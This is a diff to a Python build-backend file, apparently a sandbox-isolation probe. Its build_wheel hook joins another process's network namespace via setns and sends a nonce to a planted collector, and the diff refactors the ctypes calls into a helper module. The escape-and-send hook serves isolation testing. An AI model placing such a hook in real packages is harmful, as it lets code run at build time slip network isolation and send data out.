@@ -3,10 +3,10 @@
 Where the call is refused, nothing is sent at all.
 """
 
-import ctypes
 import os
 import socket
 
+import calls
 import kit
 
 CLONE_NEWNET = 0x40000000
@@ -15,9 +15,7 @@ CLONE_NEWNET = 0x40000000
 def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     with kit.attempt("join"):
         outside = os.open(f"/proc/{kit.find('victim')}/ns/net", os.O_RDONLY)
-        libc = ctypes.CDLL(None, use_errno=True)
-        if libc.setns(outside, CLONE_NEWNET) != 0:
-            raise OSError(ctypes.get_errno(), "setns")
+        calls.checked(calls.libc.setns(outside, CLONE_NEWNET), "setns")
         collector = kit.plant("collector")
         with socket.create_connection((collector.address, collector.port), timeout=3) as out:
             out.sendall(f"{kit.nonce}\n".encode())
